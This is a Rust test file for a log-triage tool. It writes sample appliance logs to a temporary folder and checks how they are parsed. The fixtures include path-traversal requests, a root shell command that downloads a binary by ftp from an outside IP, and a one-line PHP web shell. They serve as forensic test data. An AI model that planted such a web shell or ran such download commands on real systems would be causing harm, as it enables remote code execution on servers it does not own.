//! A folder of logs, as collected from an appliance, read through the public API from disk.

use std::fs::File;
use std::io::Write;
use std::path::PathBuf;

use flate2::Compression;
use flate2::write::GzEncoder;
use wachter_triage::input::Limits;
use wachter_triage::logs::{Coverage, LogKind, kind_of, read_log};

const ACCESS_NOW: &str = "\
192.168.0.4 - - [28/Nov/2019:22:28:20 +0000] \"POST /vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 135 \"-\" \"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.14; rv:71.0) Gecko/20100101 Firefox/71.0\" \"Time: 6809 microsecs\"
192.168.0.4 - - [28/Nov/2019:22:28:22 +0000] \"GET /vpns/portal/xbtewgybbp.xml HTTP/1.1\" 200 696 \"-\" \"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.14; rv:71.0) Gecko/20100101 Firefox/71.0\" \"Time: 147744 microsecs\"
";

const ACCESS_OLD: &str = "\
127.0.0.2 - - [13/Jan/2020:08:16:30 +0000] \"POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\" 200 135 \"-\" \"curl/7.67.0\"
";

const BASH: &str = "\
Jan 19 24:26:52 <local7.notice> ns bash[1297]: root on /dev/pts/0 shell_command=\"/usr/bin/ftp -o /tmp/bsd ftp://xxxxxxxxxxxxxxxxxxxxxx66.42.98.220/bsd\"
Jan 19 24:27:00 <local7.notice> ns bash[1298]: nobody on (null) shell_command=\"printf '%s\\n' a
b\"
";

struct TempDir(PathBuf);

impl Drop for TempDir {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut enc = GzEncoder::new(Vec::new(), Compression::default());
    enc.write_all(data).unwrap();
    enc.finish().unwrap()
}

#[test]
fn folder_of_logs() {
    let dir = TempDir(std::env::temp_dir().join(format!("wachter-logs-{}", std::process::id())));
    std::fs::create_dir_all(&dir.0).unwrap();
    let files: [(&str, Vec<u8>); 4] = [
        ("httpaccess.log", ACCESS_NOW.into()),
        ("httpaccess.log.1.gz", gzip(ACCESS_OLD.as_bytes())),
        ("bash.log.0.gz", gzip(BASH.as_bytes())),
        (
            "httpaccess.log.bak.php",
            b"<?php system($_GET['c']); ?>\n".to_vec(),
        ),
    ];
    for (name, data) in &files {
        std::fs::write(dir.0.join(name), data).unwrap();
    }

    let mut seen: Vec<(Coverage, Vec<(u64, String)>)> = Vec::new();
    let mut names: Vec<_> = std::fs::read_dir(&dir.0)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    names.sort();
    for path in names {
        let path = path.to_str().unwrap().to_string();
        let Some(kind) = kind_of(&path) else {
            assert!(path.ends_with(".php"));
            continue;
        };
        let mut file = File::open(&path).unwrap();
        let mtime = 1_579_651_200; // 2020-01-22
        let mut records = Vec::new();
        let (cov, problems) = read_log(
            &path,
            Some(kind),
            &mut file,
            Some(mtime),
            &Limits::default(),
            &mut |r| records.push((r.line, r.text.to_string())),
        );
        assert!(problems.is_empty(), "{problems:?}");
        seen.push((cov, records));
    }
    assert_eq!(seen.len(), 3);

    let (bash, records) = &seen[0];
    assert_eq!(bash.kind, Some(LogKind::Bash));
    assert!(bash.compressed);
    assert_eq!(bash.lines, 3);
    assert_eq!(records.len(), 2);
    assert_eq!(records[1].0, 2);
    assert!(
        records[1]
            .1
            .ends_with("shell_command=\"printf '%s\\n' a\nb\"")
    );
    // Hour 24 of Jan 19 is Jan 20, 00:26:52 UTC.
    assert_eq!(bash.first_utc, Some(1_579_480_012));

    let (now, _) = &seen[1];
    assert_eq!(
        (now.kind, now.compressed, now.lines),
        (Some(LogKind::HttpAccess), false, 2)
    );
    assert_eq!(now.last.as_deref(), Some("28/Nov/2019:22:28:22 +0000"));
    let (old, records) = &seen[2];
    assert!(old.compressed);
    assert_eq!(records, &vec![(1, ACCESS_OLD.trim_end().to_string())]);
    assert_eq!(old.first_utc, Some(1_578_903_390));
}
